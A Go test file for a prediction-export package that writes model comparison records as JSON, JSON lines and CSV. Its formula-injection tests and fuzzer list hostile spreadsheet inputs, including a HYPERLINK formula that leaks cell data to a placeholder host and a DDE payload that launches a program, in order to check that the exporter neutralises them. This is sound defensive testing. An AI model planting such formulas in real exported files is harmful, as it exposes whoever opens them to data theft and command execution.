package record

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"iter"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/headgate/headgate/compare/protocol"
)

func sequence(pairs ...*Pair) iter.Seq2[*Pair, error] {
	return func(yield func(*Pair, error) bool) {
		for _, p := range pairs {
			if !yield(p, nil) {
				return
			}
		}
	}
}

func samples() []*Pair {
	b := pairOf("b,\"c\"", at(2.5), -1)
	b.Features = nil
	c := pairOf("c", at(3), 1)
	c.Stable, c.Shadow = raw("cat"), json.RawMessage(`[-1,0.5]`)
	return []*Pair{pairOf("a", at(1), 0.25), b, c}
}

func TestJSONLines(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJSONLines(&b, sequence(samples()...)); err != nil {
		t.Fatal(err)
	}
	want := `{"time":"2026-03-01T12:00:01Z","request_id":"a","stable_version":"v1","shadow_version":"v2","stable":0.5,"shadow":0.75,"difference":0.25,"features":{"age":40}}
{"time":"2026-03-01T12:00:02.5Z","request_id":"b,\"c\"","stable_version":"v1","shadow_version":"v2","stable":0.5,"shadow":null,"difference":null,"features":null}
{"time":"2026-03-01T12:00:03Z","request_id":"c","stable_version":"v1","shadow_version":"v2","stable":"cat","shadow":[-1,0.5],"difference":1,"features":{"age":40}}
`
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
	var array bytes.Buffer
	if err := WriteJSON(&array, sequence(samples()...)); err != nil {
		t.Fatal(err)
	}
	var rows []json.RawMessage
	if err := json.Unmarshal(array.Bytes(), &rows); err != nil {
		t.Fatal(err)
	}
	joined := ""
	for _, r := range rows {
		joined += string(r) + "\n"
	}
	if diff := cmp.Diff(want, joined); diff != "" {
		t.Errorf("the array has other rows: %s", diff)
	}
	array.Reset()
	if err := WriteJSON(&array, sequence()); err != nil || strings.TrimSpace(array.String()) != "[]" {
		t.Errorf("no pairs: %s, %v", array.String(), err)
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, sequence(samples()...)); err != nil {
		t.Fatal(err)
	}
	want := `time,request_id,stable_version,shadow_version,stable,shadow,difference,features
2026-03-01T12:00:01Z,a,v1,v2,0.5,0.75,0.25,"{""age"":40}"
2026-03-01T12:00:02.5Z,"b,""c""",v1,v2,0.5,,,
2026-03-01T12:00:03Z,c,v1,v2,cat,"[-1,0.5]",1,"{""age"":40}"
`
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

func TestCSVIsNoFormula(t *testing.T) {
	for text, want := range map[string]string{
		`=1+1`: `'=1+1`, `=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`, `@SUM(A1)`: `'@SUM(A1)`, `+1+1`: `'+1+1`,
		`-2+3+cmd|' /C calc'!A0`: `'-2+3+cmd|' /C calc'!A0`, "\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "  =1": "  '=1",
		"\x00=1": "'\x00=1", "＝1+1": "'＝1+1", `a;=1+1`: `a;'=1+1`, `a;"=1+1`: `a;"'=1+1`, "a\n@x": "a\n'@x", "\ufeff=1": "\ufeff'=1",
		// Nothing is wrong with these.
		"-0.5": "-0.5", "+1e-5": "+1e-5", "a=b": "a=b", "v1-2": "v1-2", "": "", "cat": "cat", "a, -b": "a, -b", `{"a":-1}`: `{"a":-1}`,
		"2026-03-01T12:00:01Z": "2026-03-01T12:00:01Z", "-inf": "'-inf", "-": "'-",
	} {
		if got := harmless(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
	p := pairOf("=1", at(1), 0)
	p.StableVersion, p.ShadowVersion, p.Stable, p.Shadow, p.Features = "=2", "=3", raw("=4"), raw("\t=5"), raw("=6")
	var b bytes.Buffer
	if err := WriteCSV(&b, sequence(p)); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range lines[1] {
		if strings.HasPrefix(strings.TrimSpace(c), "=") {
			t.Errorf("%s: %q", lines[0][i], c)
		}
	}
}

// However a spreadsheet cuts the table, no cell that is not a number begins like
// a formula.
func FuzzCSV(f *testing.F) {
	f.Add("=1", `{"a":"=2"}`)
	f.Add("a;=1", "\"-1\t=2\"")
	f.Fuzz(func(t *testing.T, id, features string) {
		p := pairOf(id, at(1), 0)
		p.Features = json.RawMessage(features)
		var b bytes.Buffer
		if err := WriteCSV(&b, sequence(p)); err != nil {
			t.Fatal(err)
		}
		for _, comma := range []rune{',', ';', '\t', '|'} {
			r := csv.NewReader(bytes.NewReader(b.Bytes()))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
			for {
				cells, err := r.Read()
				if err != nil {
					break
				}
				for _, c := range cells {
					if c = strings.TrimLeft(c, " \"\u00a0\ufeff"); c != "" && strings.ContainsAny(c[:1], "=+-@") && strings.Trim(c, "0123456789.eE+-") != "" {
						t.Errorf("separated by %q a cell is %q of %q", comma, c, b.String())
					}
				}
			}
		}
	})
}

// broken gives two pairs, then an error.
func broken(yield func(*Pair, error) bool) {
	_ = yield(pairOf("a", at(1), 0), nil) && yield(pairOf("b", at(1), 0), nil) && yield(nil, errors.New("lost"))
}

func TestExportsStopAtErrors(t *testing.T) {
	for name, write := range map[string]func(io.Writer, iter.Seq2[*Pair, error]) error{"csv": WriteCSV, "json": WriteJSON, "jsonl": WriteJSONLines} {
		if err := write(io.Discard, broken); err == nil || err.Error() != "lost" {
			t.Errorf("%s: error %v", name, err)
		}
		n := 0
		endless := func(yield func(*Pair, error) bool) {
			for yield(pairOf("a", at(1), 0), nil) {
				n++
			}
		}
		reader, writer := io.Pipe()
		_ = reader.Close() // the client is gone
		if err := write(writer, endless); !errors.Is(err, io.ErrClosedPipe) || n > 10_000 {
			t.Errorf("%s: error %v after %d pairs", name, err, n)
		}
	}
}

func TestPredictions(t *testing.T) {
	for name, c := range map[string]struct {
		body, want     string
		limit          int
		single, larges string
	}{
		"number":    {`{"prediction":0.5}`, `0.5`, 1000, "0.5", ""},
		"label":     {`{"prediction":"cat"}`, `"cat"`, 1000, "cat", ""},
		"boolean":   {`{"prediction":true}`, `true`, 1000, "1", ""},
		"vector":    {`{"prediction":[0.1,0.7,0.2]}`, `[0.1,0.7,0.2]`, 1000, "", "1"},
		"matrix":    {`{"prediction":[[1,2],[3,4]]}`, `[1,2,3,4]`, 1000, "", "3"},
		"by name":   {`{"prediction":{"cat":0.9,"dog":0.1}}`, `{"cat":0.9,"dog":0.1}`, 1000, "", "cat"},
		"nested":    {`{"prediction":{"a":[1,2],"b":{"c":3}}}`, `{"a[0]":1,"a[1]":2,"b.c":3}`, 1000, "", "b.c"},
		"nothing":   {`{"prediction":[]}`, ``, 1000, "", ""},
		"cut":       {`{"prediction":[1,2,3,4,5,6,7,8,9]}`, `[1,2,3,"…"]`, 12, "", ""},
		"cut text":  {`{"prediction":"ääää"}`, `"ää…"`, 5, "ää…", ""},
		"cut names": {`{"prediction":{"a":1,"b":2,"c":3}}`, `{"a":1,"b":2,"…":null}`, 10, "", "b"},
		"integer":   {`{"prediction":1000000}`, `1000000`, 1000, "1e+06", ""},
	} {
		t.Run(name, func(t *testing.T) {
			prediction := Prediction(read(t, c.body), c.limit)
			if string(prediction) != c.want {
				t.Errorf("%s, want %s", prediction, c.want)
			}
			if prediction != nil && !json.Valid(prediction) {
				t.Errorf("%s is no JSON", prediction)
			}
			if v, ok := Single(prediction); ok != (c.single != "") || ok && v.String() != c.single {
				t.Errorf("single %v %t, want %q", v, ok, c.single)
			}
			if v, ok := Largest(prediction); c.larges != "" && (!ok || v.String() != c.larges) || c.larges == "" && ok {
				t.Errorf("largest %v %t, want %q", v, ok, c.larges)
			}
		})
	}
}

func read(t *testing.T, body string) *protocol.Prediction {
	t.Helper()
	path, err := protocol.ParsePattern("$.prediction")
	if err != nil {
		t.Fatal(err)
	}
	r, err := protocol.NewReader(protocol.Options{Protocol: protocol.JSON, Paths: []protocol.Pattern{path}})
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.Read(&protocol.Answer{Status: 200, Body: []byte(body)})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestSetDiff(t *testing.T) {
	var p Pair
	p.SetDiff(&protocol.Diff{Comparable: true, Difference: 0.5, Differences: []protocol.Difference{
		{Kind: protocol.KindValue}, {Kind: protocol.KindLabel}, {Kind: protocol.KindValue}}})
	if p.Agree || p.Difference == nil || *p.Difference != 0.5 || len(p.Kinds) != 2 {
		t.Errorf("%+v", p)
	}
	p.SetDiff(protocol.NotComparable(errors.New("truncated"), nil))
	if p.Difference != nil || p.Kinds != nil || p.Reason != "stable: truncated" {
		t.Errorf("%+v", p)
	}
}
